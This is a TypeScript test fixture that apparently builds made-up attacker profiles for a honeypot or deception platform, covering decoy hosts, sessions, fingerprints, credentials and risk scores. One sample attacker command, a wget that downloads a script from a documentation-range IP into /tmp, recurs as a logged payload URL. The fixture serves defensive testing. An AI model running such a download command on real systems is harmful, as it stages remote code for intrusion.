/** Profiles of attackers that never were. */
import { FINGERPRINT_KINDS, type Profile } from "../../lib/profile/profile.ts";

const FIRST = "2026-09-01T10:00:00.000000Z";
const LATER = "2026-09-01T10:20:00.250000Z";
const LAST = "2026-09-02T08:15:30.123456Z";
const SPAN = { first_seen: FIRST, last_seen: LAST };

/** A profile in which every member is there; `changes` go over it. */
export function madeProfile(changes: Partial<Profile> = {}): Profile {
  return fullProfile(undefined, changes);
}

/** A profile whose every text of the attacker's is `text`. */
export function hostileProfile(text: string, changes: Partial<Profile> = {}): Profile {
  return fullProfile(text, changes);
}

function fullProfile(text: string | undefined, changes: Partial<Profile>): Profile {
  const [web, mail] = [text ?? "decky-web-01", text ?? "decky-mail-01"];
  const [http, ssh, smtp] = [text ?? "http", text ?? "ssh", text ?? "smtp"];
  const credential = (principal: string, successes: number) => ({
    ...SPAN,
    ...{ principal, kind: text ?? "password", secret: text ?? "123456" },
    ...{ secret_sha256: "8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92" },
    ...{ attempts: 12, successes, targets: [`${web}:${ssh}`, `${mail}:${ssh}`], attackers: 3 },
  });
  return {
    profile: 1,
    attacker_ip: "198.51.100.23",
    ...SPAN,
    events: 321,
    evidence: 5,
    event_types: [{ name: text ?? "auth_attempt", count: 300 }, { name: "command", count: 21 }],
    deckies: [
      { ...SPAN, decky: web, events: 200, services: [http, ssh] },
      { first_seen: LATER, last_seen: LAST, decky: mail, events: 121, services: [smtp, ssh] },
    ],
    decky_count: 2,
    traversal_path: [web, mail],
    services: [
      { ...SPAN, service: http, contact: "scanned", events: 20 },
      { ...SPAN, service: smtp, contact: "scanned", events: 1 },
      { ...SPAN, service: ssh, contact: "interacted", events: 300 },
    ],
    scanned: [http, smtp],
    interacted: [ssh],
    phases: [
      { ...SPAN, phase: "reconnaissance", events: 21 },
      { ...SPAN, phase: "access_attempt", events: 279 },
      { first_seen: LATER, last_seen: LAST, phase: "execution", events: 21 },
    ],
    recon_to_action_s: 1200.25,
    sessions: [
      {
        ...{ first_seen: FIRST, last_seen: LATER, duration_s: 1200.25, events: 250 },
        ...{ deckies: [web], services: [http, ssh], commands: 4 },
        phases: ["reconnaissance", "access_attempt"],
      },
      {
        ...{ first_seen: LAST, last_seen: LAST, duration_s: 0, events: 71 },
        ...{ deckies: [mail], services: [ssh], phases: ["execution"], commands: 17 },
      },
    ],
    session_count: 2,
    behaviour: {
      class: "interactive",
      reason: "21 commands, mean gap 3.1 s, cv 1.2",
      timing: {
        ...{ intervals: 320, mean_s: 3.1, median_s: 2.2, stdev_s: 3.7 },
        ...{ min_s: 0.01, max_s: 120.5, cv: 1.2 },
      },
    },
    beacon: { interval_s: 60.2, jitter_pct: 18.5 },
    tools: [
      { tool: "nmap", source: "user_agent", evidence: text ?? "Nmap Scripting Engine", count: 3 },
      { tool: "libssh", source: "ssh_banner", evidence: text ?? "SSH-2.0-libssh_0.9", count: 12 },
    ],
    techniques: [
      { id: "T1105", name: "Ingress Tool Transfer", tactic: "command-and-control", count: 2 },
      { id: "T1110.001", name: "Password Guessing", tactic: "credential-access", count: 279 },
    ],
    commands: {
      truncated: true,
      total: 21,
      items: [
        {
          ...SPAN,
          ...{ command: text ?? "wget http://198.51.100.99/x.sh -O /tmp/x", count: 2 },
          ...{ techniques: ["T1105"], services: [ssh] },
        },
        { ...SPAN, command: text ?? "uname -a", count: 19, services: [ssh] },
      ],
    },
    credentials: {
      ...{ truncated: false, total: 24 },
      items: [credential(text ?? "root", 0), credential(text ?? "admin", 2)],
    },
    victim_domains: {
      ...{ truncated: false, total: 9 },
      items: [{ ...SPAN, domain: text ?? "contoso.com", recipients: 9 }],
    },
    fingerprints: FINGERPRINT_KINDS.map((kind) => ({
      ...{ ...SPAN, kind, value: text ?? fingerprint(kind), count: 4 },
      ...(kind === "hassh" ? { shared_by: 17 } : {}),
    })),
    rotations: [{
      ...{ time: LAST, probe_type: "jarm", port: 443 },
      ...{ old_hash: text ?? "0".repeat(62), new_hash: text ?? "1".repeat(62) },
    }],
    rotation_count: 1,
    payloads: {
      ...{ truncated: false, total: 3 },
      items: [
        { ...SPAN, name: text ?? "5e".repeat(32), kind: "sha256", bytes: 4_200_000, count: 1 },
        { ...SPAN, name: text ?? "http://198.51.100.99/x.sh", kind: "url", count: 2 },
      ],
    },
    large_payloads: 1,
    stack: { os: text ?? "linux", hop_distance: 12, retransmits: 4 },
    timeline: [
      { hour: "2026-09-01T10:00:00.000000Z", decky: web, events: 200 },
      { hour: "2026-09-01T10:00:00.000000Z", decky: mail, events: 50 },
      { hour: "2026-09-02T08:00:00.000000Z", decky: mail, events: 71 },
    ],
    risk: {
      score: 63,
      parts: [
        { part: "commands", points: 35, why: "21 commands run" },
        { part: "traversal", points: 28, why: "2 decoys" },
      ],
    },
    origin: { country: "NL", asn: 64500, as_name: text ?? "Example Hosting B.V." },
    ptr: text ?? "scan-23.example.net",
    ...changes,
  };
}

const HEX = "0123456789abcdef".repeat(4);

function fingerprint(kind: string): string {
  switch (kind) {
    case "jarm":
      return HEX.slice(0, 62);
    case "cert_sha256":
      return HEX;
    case "ja3":
    case "hassh":
    case "hassh_server":
      return HEX.slice(0, 32);
    default:
      return `${kind}-${HEX.slice(0, 12)}`;
  }
}
